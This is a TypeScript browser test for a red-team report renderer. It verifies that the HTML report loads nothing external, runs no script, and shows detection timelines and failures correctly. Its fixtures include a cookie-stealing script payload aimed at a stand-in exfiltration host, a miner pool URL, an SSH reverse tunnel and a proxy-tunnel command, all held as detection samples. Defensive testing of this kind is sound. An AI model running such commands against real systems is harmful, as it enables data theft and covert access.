// The HTML report as a reader sees it: Debian's Chromium, driven by playwright-core, opens the file
// and the test checks the visible text, the order of the ROME timeline, the failure highlight and a
// screenshot. Chromium is required (CI installs it): a missing browser fails, it never skips.
import * as assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import type { RedteamReport } from '../redteam-result.js';
import { renderHtmlReport } from './html-report.js';
import { REPORT_FIXTURE } from './report-fixture.js';
import { colourHistogram, decodePng, pngSize } from '../../testing/png-pixels.js';

const CHROMIUM = process.env.PRAETOR_CHROMIUM ?? '/usr/bin/chromium';
// No network, no background services: the page must render from the file alone.
const ARGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
const RED = 'rgb(198, 40, 40)';
const RED_BG = 'rgb(253, 236, 236)';
const GREEN = 'rgb(26, 127, 55)';

describe('HTML report in Chromium', () => {
  let dir = '';
  let browser: Browser | undefined;

  before(async () => {
    assert.ok(existsSync(CHROMIUM), `Chromium not found at ${CHROMIUM}: install Debian's chromium (scripts/quickstart.sh test does) or set PRAETOR_CHROMIUM`);
    dir = await mkdtemp(join(tmpdir(), 'praetor-report-browser-'));
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ARGS });
  });

  after(async () => {
    await browser?.close();
    if (dir !== '') await rm(dir, { recursive: true, force: true });
  });

  /** Opens the report in a fresh page, recording every URL the page asked for. */
  async function open(report: RedteamReport, name: string): Promise<{ page: Page; requests: string[]; dialogs: string[] }> {
    assert.ok(browser, 'browser launched');
    const path = join(dir, `${name}.html`);
    await writeFile(path, renderHtmlReport(report));
    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    const requests: string[] = [];
    const dialogs: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(pathToFileURL(path).href, { waitUntil: 'load' });
    return { page, requests, dialogs };
  }

  it('loads nothing but the file and runs no script from the data', async () => {
    const { page, requests, dialogs } = await open(REPORT_FIXTURE, 'self-contained');
    assert.deepEqual(requests.filter((u) => !u.startsWith('file://')), []);
    assert.equal(requests.length, 1);
    assert.equal(await page.locator('script').count(), 0);
    assert.deepEqual(dialogs, []);
    const cmd = await page.locator('#scenario-adv-chunked-exfil [data-step="1"] pre.cmd').innerText();
    assert.ok(cmd.startsWith(`printf '<script>fetch("http://exfil.example.test/?d="+document.cookie)</script>'`), cmd);
    assert.ok(cmd.includes('upload?part=1&of=3'), cmd);
    await page.close();
  });

  it('shows the summary figures', async () => {
    const { page } = await open(REPORT_FIXTURE, 'summary');
    const summary = page.locator('#summary');
    assert.ok(await summary.isVisible());
    const text = await summary.innerText();
    for (const line of ['praetor red team report', 'ci-runner-7', '2025-06-14 09:30:00 UTC', '1 of 3 scenarios failed']) {
      assert.ok(text.includes(line), `summary shows ${line}:\n${text}`);
    }
    const figures = await page.locator('#summary .figure').allInnerTexts();
    const byLabel = new Map(figures.map((f) => f.split('\n').map((l) => l.trim())).map(([label, value]) => [label?.toLowerCase(), value]));
    assert.deepEqual(Object.fromEntries(byLabel), {
      recall: '50%',
      'false-alert rate': '0%',
      containment: '50%',
      'bytes to disallowed hosts': '1,536',
      passed: '2',
      failed: '1',
    });
    await page.close();
  });

  it('lists every scenario in the table, failed row highlighted, linked to its timeline', async () => {
    const { page } = await open(REPORT_FIXTURE, 'table');
    const rows = page.locator('#scenarios tbody tr');
    assert.equal(await rows.count(), REPORT_FIXTURE.scenarios.length);
    for (const [i, s] of REPORT_FIXTURE.scenarios.entries()) {
      const row = rows.nth(i);
      const text = await row.innerText();
      assert.ok(text.includes(s.title) && text.includes(s.suite), text);
      assert.ok(text.includes(s.passed ? 'PASSED' : 'FAILED'), text);
      const bg = await row.locator('td').nth(1).evaluate((td) => getComputedStyle(td).backgroundColor);
      assert.equal(bg === RED_BG, !s.passed, `${s.id} row background ${bg}`);
    }
    await rows.nth(1).locator('a').click();
    assert.equal(new URL(page.url()).hash, '#scenario-adv-chunked-exfil');
    const top = await page.locator('#scenario-adv-chunked-exfil').evaluate((e) => e.getBoundingClientRect().top);
    assert.ok(Math.abs(top) < 5, `the anchor scrolls to the scenario (top ${top})`);
    await page.close();
  });

  it('draws the ROME timeline top to bottom in step order with alerts and actions', async () => {
    const { page } = await open(REPORT_FIXTURE, 'timeline');
    const steps = page.locator('#scenario-rome-replay .timeline > li.step');
    const texts = await steps.allInnerTexts();
    const expected = ['docs.example.test/setup.md', 'calc.py', 'stratum+tcp://pool.example.test:3333', '--proxytunnel', '-R 2222:localhost:22', 'open ports found'];
    assert.equal(texts.length, expected.length);
    texts.forEach((t, i) => {
      assert.ok(t.startsWith(`step ${i}`), t);
      assert.ok(t.includes(expected[i] ?? ''), `step ${i} shows ${expected[i]}:\n${t}`);
    });
    assert.match(texts[2] ?? '', /high\s+miner-pool-url T1496 after 41 ms/);
    assert.match(texts[2] ?? '', /GUARD\s+kill-tree → pid 4121/);
    assert.match(texts[4] ?? '', /critical\s+ssh-reverse-tunnel T1572 after 9 ms/);
    assert.match(texts[5] ?? '', /10 connections refused by the firewall/);
    const boxes = await steps.evaluateAll((els) => els.map((e) => e.getBoundingClientRect()).map((r) => ({ x: r.left, top: r.top, bottom: r.bottom })));
    boxes.forEach((b, i) => {
      const prev = boxes[i - 1];
      if (prev) assert.ok(b.top >= prev.bottom && b.x === prev.x, `step ${i} sits below step ${i - 1}`);
    });
    // Native <details>: the timeline folds without any script.
    await page.locator('#scenario-rome-replay details > summary').click();
    assert.equal(await steps.first().isVisible(), false);
    await page.close();
  });

  it('highlights the failed scenario and its failing step, with the reasons', async () => {
    const { page } = await open(REPORT_FIXTURE, 'failed');
    const failed = page.locator('#scenario-adv-chunked-exfil');
    assert.match((await failed.getAttribute('class')) ?? '', /\bfailed\b/);
    assert.equal(await failed.evaluate((e) => getComputedStyle(e).borderLeftColor), RED);
    assert.equal(await page.locator('#scenario-rome-replay').evaluate((e) => getComputedStyle(e).borderLeftColor), GREEN);
    const reasons = await failed.locator('.failures li').allInnerTexts();
    assert.deepEqual(reasons, REPORT_FIXTURE.scenarios[1]?.failures);
    assert.ok(await failed.locator('.failures').isVisible());
    const missed = failed.locator('li.step.missed');
    assert.equal(await missed.count(), 1);
    assert.equal(await missed.evaluate((e) => getComputedStyle(e).backgroundColor), RED_BG);
    assert.match(await missed.innerText(), /expected T1041: NOT detected/);
    await page.close();
  });

  it('renders a full-page screenshot that is a real page, not a blank one', async () => {
    const shot = async (report: RedteamReport, name: string): Promise<Buffer> => {
      const { page } = await open(report, name);
      const path = join(dir, `${name}.png`);
      await page.screenshot({ path, fullPage: true });
      await page.close();
      return readFile(path);
    };
    const png = await shot(REPORT_FIXTURE, 'shot');
    const { width, height } = pngSize(png);
    assert.equal(width, 1280);
    assert.ok(height > 1500, `full page height ${height}`);
    assert.ok(png.length > 50_000, `screenshot is ${png.length} bytes`);
    const colours = colourHistogram(decodePng(png));
    assert.ok(colours.size > 100, `${colours.size} distinct colours`);
    const [, most = 0] = [...colours.entries()].sort((a, b) => b[1] - a[1])[0] ?? [];
    assert.ok(most < width * height * 0.9, 'no single colour covers the page');
    assert.ok((colours.get('253,236,236') ?? 0) > 5_000, 'the failure highlight is painted');

    const allPassed: RedteamReport = {
      ...REPORT_FIXTURE,
      scenarios: REPORT_FIXTURE.scenarios.filter((s) => s.passed),
      summary: { ...REPORT_FIXTURE.summary, adversarial: 1, recall: 1, contained: 1, containment: 1, bytesToDisallowed: 0, failed: 0 },
    };
    const other = await shot(allPassed, 'shot-passed');
    assert.notDeepEqual(other, png);
    assert.equal(colourHistogram(decodePng(other)).get('253,236,236') ?? 0, 0, 'no failure highlight when every scenario passed');
  });
});
